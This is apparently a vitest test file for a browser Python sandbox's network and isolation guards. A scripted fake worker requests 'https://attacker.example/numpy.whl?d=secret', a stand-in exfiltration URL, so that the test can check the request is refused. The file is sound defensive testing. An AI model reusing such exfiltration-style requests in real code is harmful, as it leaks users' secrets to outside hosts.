import { describe, expect, it } from 'vitest';
import { PythonSandbox } from '$lib/python/sandbox';
import type { PythonWorkerLike } from '$lib/python/connection';
import type { PythonToWorker } from '$lib/protocol/python';

// What the page refuses the Python worker, whatever the worker asks: package files from anywhere
// but the package host the user agreed to, and an interpreter shared between runs that must not
// share one. The worker is a stand-in speaking the protocol (the real one runs in
// sandbox.test.ts and tests/e2e/python-fence.spec.ts).

type Listener = (event: Event & { data?: unknown }) => void;

interface Script {
	/** Packages `plan` reports. */
	packages?: string[];
	/** A fetch the worker asks for while loading packages or running. */
	fetchUrl?: string;
}

class ScriptedWorker implements PythonWorkerLike {
	terminated = false;
	readonly fetchResults: unknown[] = [];
	readonly #listeners: Listener[] = [];

	constructor(private readonly script: Script) {
		setTimeout(() => this.#say({ type: 'ready' }), 0);
	}

	addEventListener(type: string, listener: Listener): void {
		if (type === 'message') this.#listeners.push(listener);
	}

	terminate(): void {
		this.terminated = true;
	}

	postMessage(message: PythonToWorker): void {
		if (this.terminated) return;
		if (message.type === 'fetch-result') {
			this.fetchResults.push(message);
			this.#pendingFetch?.();
			return;
		}
		const { id, call } = message;
		const answer = (value: unknown): void =>
			void setTimeout(() => this.#say({ type: 'result', id, call, ok: true, value }), 0);
		if (call === 'start') answer({ version: 'test', interruptible: false, startMs: 1 });
		else if (call === 'plan') answer({ packages: this.script.packages ?? [] });
		else if (call === 'loadPackages' || call === 'run') {
			const value =
				call === 'run'
					? { stdout: '', stderr: '', images: [], durationMs: 1 }
					: { loaded: message.params.names };
			if (!this.script.fetchUrl) return answer(value);
			this.#pendingFetch = () => answer(value);
			const request = { url: this.script.fetchUrl, method: 'GET', headers: [] };
			setTimeout(() => this.#say({ type: 'fetch', id, fetchId: 1, request }), 0);
		}
	}

	#pendingFetch: (() => void) | undefined;

	#say(data: unknown): void {
		if (this.terminated) return;
		for (const l of this.#listeners) l(Object.assign(new Event('message'), { data }));
	}
}

function sandboxWith(script: Script) {
	const workers: ScriptedWorker[] = [];
	const sandbox = new PythonSandbox({
		isolated: false,
		createWorker: () => {
			const worker = new ScriptedWorker(script);
			workers.push(worker);
			return worker;
		}
	});
	return { sandbox, workers };
}

describe('PythonSandbox guards', () => {
	it('fetches package files only under the package host the user agreed to', async () => {
		const { sandbox, workers } = sandboxWith({
			packages: ['numpy'],
			fetchUrl: 'https://attacker.example/numpy.whl?d=secret'
		});
		const fetched: string[] = [];
		await sandbox.run('import numpy', {
			packagesUrl: 'https://cdn.jsdelivr.net/pyodide/v0.29.0/full/',
			confirmPackages: async () => true,
			fetch: async (url) => {
				fetched.push(url);
				return new Response('');
			}
		});
		expect(fetched).toEqual([]);
		// The package fetch was refused by name (the run's own fetch had no network either).
		expect(workers[0]?.fetchResults[0]).toMatchObject({
			ok: false,
			error: { code: 'network_blocked', message: expect.stringContaining('cdn.jsdelivr.net') }
		});
	});

	it('still fetches a package file under that host, as a package', async () => {
		const url = 'https://cdn.jsdelivr.net/pyodide/v0.29.0/full/numpy-2.0.whl';
		const { sandbox } = sandboxWith({ packages: ['numpy'], fetchUrl: url });
		const fetched: string[] = [];
		await sandbox.run('import numpy', {
			packagesUrl: 'https://cdn.jsdelivr.net/pyodide/v0.29.0/full',
			confirmPackages: async () => true,
			fetch: async (u, _init, _purpose, kind) => {
				fetched.push(`${kind} ${u}`);
				return new Response('');
			}
		});
		expect(fetched).toEqual([`package ${url}`]);
	});

	it("gives the code's own requests to the caller as 'code', only with network allowed", async () => {
		const url = 'https://example.org/data.json';
		const { sandbox, workers } = sandboxWith({ fetchUrl: url });
		const fetched: string[] = [];
		const fetch = async (u: string, _i: RequestInit, _p: string, kind: string) => {
			fetched.push(`${kind} ${u}`);
			return new Response('{}');
		};
		await sandbox.run('x', { fetch, allowNetwork: false });
		expect(fetched).toEqual([]);
		expect(workers.at(-1)?.fetchResults.at(-1)).toMatchObject({ ok: false });
		await sandbox.run('x', { fetch, allowNetwork: true });
		expect(fetched).toEqual([`code ${url}`]);
	});

	it('never lets an interpreter that ran tainted code serve a run that is not tainted', async () => {
		const { sandbox, workers } = sandboxWith({});
		await sandbox.run('a', {});
		await sandbox.run('b', { tainted: true });
		await sandbox.run('c', { tainted: true });
		expect(workers).toHaveLength(1);
		await sandbox.run('d', {});
		expect(workers).toHaveLength(2);
		expect(workers[0]?.terminated).toBe(true);
	});

	it('keeps one network mode per interpreter', async () => {
		const { sandbox, workers } = sandboxWith({});
		const fetch = async () => new Response('');
		await sandbox.run('a', {});
		await sandbox.run('b', { allowNetwork: true, fetch });
		expect(workers).toHaveLength(2);
		await sandbox.run('c', { allowNetwork: true, fetch });
		expect(workers).toHaveLength(2);
	});
});
